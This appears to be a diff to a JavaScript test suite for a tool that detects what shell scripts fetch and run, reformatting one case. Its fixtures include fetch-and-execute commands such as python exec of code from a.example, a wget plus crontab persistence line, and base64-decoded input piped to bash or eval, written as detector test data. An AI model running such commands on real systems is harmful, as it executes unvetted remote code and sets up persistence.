@@ -40,7 +40,11 @@ describe('what a script fetches', () => {
       'wget https://a.example/main/autostop.py\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python $PWD/autostop.py --time 60") | crontab -',
       ['1 wget run a.example'],
     ],
-    ['code within code', 'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://a.example/a.py\').read())"', ['1 python run a.example']],
+    [
+      'code within code',
+      'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://a.example/a.py\').read())"',
+      ['1 python run a.example'],
+    ],
     ['a hidden command', 'echo ZWNobw== | base64 -d | bash', ['1 base64 run ?']],
     ['a hidden command that is evaluated', 'eval "$(echo ZWNobw== | base64 --decode)"', ['1 base64 run ?']],
     ['something decoded', 'echo $CERT | base64 -d > cert.pem', []],
